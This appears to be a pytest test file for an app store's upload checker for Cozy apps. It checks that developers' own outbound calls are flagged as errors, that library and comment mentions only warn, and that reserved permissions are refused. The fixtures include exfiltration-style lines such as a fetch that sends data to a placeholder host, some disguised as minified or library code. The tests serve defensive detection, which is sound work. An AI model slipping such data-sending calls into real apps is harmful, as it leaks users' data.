"""The store's checks on apps built like real Cozy apps (real npm library files beside the
team's own): what libraries, comments, messages and data files name only warns, the team's own
calls stay errors, and names or borrowed marks do not hide them (app_store/checks/sources.py)."""

from __future__ import annotations

import pytest

from app_store.checks.run import check_upload
from app_store.checks.sources import LIBRARY, OWN, SourceFile
from sandbox.contract.consent import rule_in_words
from tests.support.apps import manifest, tar_gz
from tests.support.real_bundles import CALL, LIBRARIES, WEBPACK, npm_file, real_app

pytestmark = pytest.mark.node


def check(files: dict[str, bytes]):
    return check_upload(tar_gz(files), "app.tar.gz")


def found(report, check_id: str = "code.outbound_host", severity: str | None = None) -> list:
    return [p for p in report.problems if p.check == check_id
            and (severity is None or p.severity == severity)]


def test_a_real_app_with_libraries_comments_and_locales_is_accepted_with_a_few_warnings():
    report = check(real_app(every_library=True))
    assert report.accepted, [p.to_json() for p in report.problems if p.severity == "error"]
    warnings = found(report, severity="warning")
    # one warning per file at most, never one per address
    assert len(warnings) == len({p.path for p in warnings}) <= 6
    by_path = {p.path: p.message for p in warnings}
    assert "comments name docs.cozy.io" in by_path["app.js"]
    assert "messages to people name docs.cozy.io" in by_path["app.js"]
    assert "data file names cozy.io, support.cozy.io" in by_path["locales/fr.json"]
    assert "a library build" in by_path["public/cozy-client.js"]
    assert "licence banner" in by_path.get("lodash.min.js", "licence banner")
    assert "comments name github.com" in by_path["index.html"]
    # the four permissions the stack grants apps were accepted as they are
    assert not [p for p in report.problems if p.check.startswith("permissions.")]


def test_the_real_libraries_are_recognised_by_their_marks():
    for path, rel in LIBRARIES.items():
        src = SourceFile(path, npm_file(rel))
        assert src.origin == LIBRARY and src.mark, path
    # the same bytes at the root, under a name of the team's: only real marks count
    assert SourceFile("cozy-client.min.js",
                      npm_file("cozy-client-js/dist/cozy-client.min.js")).origin == OWN
    assert SourceFile("app.js", npm_file("lodash/lodash.min.js")).origin == OWN


def test_a_real_call_in_the_teams_code_stays_an_error():
    report = check(real_app(**{"app.js": b"fetch('https://%s/collect?d=' + data)"
                                         % CALL.encode()}))
    (err,) = found(report, severity="error")
    assert CALL in err.message and err.path == "app.js" and not report.accepted


@pytest.mark.parametrize("name", ["app.min.js", "main.bundle.js", "app.8a545f3af1.js"])
def test_a_minified_or_bundled_name_does_not_hide_the_teams_entry(name):
    files = real_app(**{name: b"!function(){fetch(\"https://%s/c\")}();" % CALL.encode()})
    files["index.html"] = b"<script src='%s'></script>" % name.encode()
    (err,) = found(check(files), severity="error")
    assert err.path == name


def test_a_borrowed_licence_banner_does_not_make_the_teams_code_a_library():
    banner = npm_file("lodash/lodash.min.js")[:100]     # lodash's real banner
    code = banner + b"\nfetch('https://%s/c')" % CALL.encode()
    assert found(check(real_app(**{"app.min.js": code})), severity="error")
    # under the library's own name it counts as lodash: shown to the reviewer as such
    (warn,) = [p for p in found(check(real_app(**{"lodash.min.js": code})))
               if p.path == "lodash.min.js"]
    assert warn.severity == "warning" and CALL in warn.message and "Lodash" in warn.message


def test_a_webpack_bundle_is_split_by_module():
    report = check(real_app(**{"main.js": WEBPACK}))
    (err,) = found(report, severity="error")
    assert CALL in err.message and err.path == "main.js"
    (warn,) = [p for p in found(report, severity="warning") if p.path == "main.js"]
    assert "cdn.tiny-lib.dev" in warn.message and "node_modules" in warn.message


@pytest.mark.parametrize(("path", "text"), [
    ("index.html", b"<script src='https://cdn.%s/x.js'></script>"),
    ("index.html", b"<!-- ok --><script>fetch('https://%s/x') // https://docs.cozy.io\n"
                   b"</script>"),
    ("server.py", b'"""Docs: https://docs.cozy.io"""\nimport httpx  # https://www.python-httpx.org'
                  b'\nhttpx.get("https://%s/x")\n'),
    ("src/own.ts", b"const url: string = `https://%s/${path}`"),
])
def test_calls_in_pages_python_and_typescript_are_errors(path, text):
    report = check(real_app(**{path: text.replace(b"%s", CALL.encode())}))
    (err,) = found(report, severity="error")
    assert CALL in err.message and err.path == path
    assert "docs.cozy.io" not in err.message and "python-httpx" not in err.message


def test_an_address_hidden_in_a_vendor_folder_is_still_shown_to_the_reviewer():
    report = check(real_app(**{"vendor/x.js": b"fetch('https://%s/c')" % CALL.encode()}))
    (warn,) = [p for p in found(report) if p.path == "vendor/x.js"]
    assert warn.severity == "warning" and CALL in warn.message and "vendor/ folder" in \
        warn.message


def test_doctypes_named_by_libraries_and_comments_warn_and_used_ones_are_errors():
    files = real_app(**{
        "vendor/lib.js": b"const all = ['io.cozy.contacts', 'io.cozy.bank.operations']",
        "notes.js": b"// later: read 'io.cozy.contacts' too\n",
        "use.js": b"client.find('fr.orange.geopoint')"})
    report = check(files)
    errors = found(report, "code.undeclared_doctype", "error")
    assert [(p.path, "fr.orange.geopoint" in p.message) for p in errors] == [("use.js", True)]
    warned = {p.path for p in found(report, "code.undeclared_doctype", "warning")}
    assert {"vendor/lib.js", "notes.js"} <= warned and "use.js" not in warned


def test_the_stacks_doctypes_are_worded_for_the_tester():
    report = check(real_app())
    words = [rule_in_words(r).sentence for r in report.manifest.permissions]
    assert "Read, create files in your Drive (bills as PDFs, documents you keep)" in words
    assert "Send you notifications" in words
    assert any(w.startswith("Read your cloud's settings") for w in words)


@pytest.mark.parametrize(("rule", "message"), [
    ({"type": "io.cozy.permissions", "verbs": ["GET"]}, "reserved to the personal cloud"),
    ({"type": "io.cozy.oauth.clients", "verbs": ["GET"]}, "reserved to the personal cloud"),
    ({"type": "io.cozy.sharings", "verbs": ["GET"]}, "reserved to the personal cloud"),
    ({"type": "io.cozy.sessions", "verbs": ["GET"]}, "reserved to the personal cloud"),
    ({"type": "io.cozy.apps", "verbs": ["GET", "POST"]}, "only the personal cloud writes"),
    ({"type": "io.cozy.konnectors"}, "only the personal cloud writes"),
    ({"type": "io.cozy.files.*"}, "only the personal cloud writes"),
    ({"type": "cc.cozycloud.sentry", "verbs": ["POST"]}, "neither a MesInfos doctype"),
])
def test_reserved_stays_reserved(rule, message):
    perms = {"x": {**rule, "description": "a reason long enough to read"}}
    report = check(real_app(m=manifest(permissions=perms)))
    (p,) = [p for p in report.problems if p.check.startswith("permissions.")]
    assert p.severity == "error" and message in p.message
